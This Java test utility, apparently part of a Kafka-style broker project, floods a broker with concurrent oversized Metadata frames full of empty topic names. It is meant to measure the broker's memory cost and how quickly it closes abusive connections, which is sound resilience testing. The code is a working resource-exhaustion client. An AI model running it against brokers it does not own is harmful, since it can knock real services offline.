package io.kraft.broker.network;

import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;

/**
 * Attacks a broker in another process, to measure what the attack costs it (its RSS from outside): {@code N}
 * connections each sending one frame of the largest size made of empty Metadata topic names, reporting when each
 * was closed. Run with the test classpath: {@code AbuseClient host port connections [frameBytes]}.
 */
public final class AbuseClient {
    private AbuseClient() {
    }

    public static void main(String[] args) throws Exception {
        String host = args[0];
        int port = Integer.parseInt(args[1]);
        int connections = Integer.parseInt(args[2]);
        int frameBytes = args.length > 3 ? Integer.parseInt(args[3]) : 104_857_600;
        ByteBuffer frame = emptyNames(frameBytes);
        ExecutorService senders = Executors.newFixedThreadPool(connections);
        List<Future<Long>> closes = new ArrayList<>();
        for (int i = 0; i < connections; i++) {
            ByteBuffer copy = frame.duplicate();
            closes.add(senders.submit(() -> sendAndAwaitClose(host, port, copy)));
        }
        List<Long> millis = new ArrayList<>();
        for (Future<Long> close : closes) {
            millis.add(close.get(10, TimeUnit.MINUTES));
        }
        senders.shutdown();
        System.out.println(connections + " frames of " + frameBytes + " bytes closed after " + millis + " ms");
    }

    static ByteBuffer emptyNames(int frameBytes) {
        byte[] clientId = "abuser".getBytes(StandardCharsets.UTF_8);
        int headerBytes = 2 + 2 + 4 + 2 + clientId.length;
        int count = (frameBytes - headerBytes - 4 - 1) / 2;
        ByteBuffer frame = ByteBuffer.allocateDirect(4 + headerBytes + 4 + count * 2 + 1);
        frame.putInt(frame.capacity() - 4).putShort((short) 3).putShort((short) 4).putInt(1)
                .putShort((short) clientId.length).put(clientId).putInt(count);
        frame.position(frame.position() + count * 2);
        frame.put((byte) 0);
        return frame.flip();
    }

    private static long sendAndAwaitClose(String host, int port, ByteBuffer frame) {
        long start = System.nanoTime();
        try (SocketChannel channel = SocketChannel.open(new InetSocketAddress(host, port))) {
            while (frame.hasRemaining()) {
                channel.write(frame);
            }
            ByteBuffer answer = ByteBuffer.allocate(1024);
            while (channel.read(answer.clear()) >= 0) {
                // until the broker closes the connection
            }
        } catch (java.io.IOException e) {
            // a reset is a close too
        }
        return TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - start);
    }
}
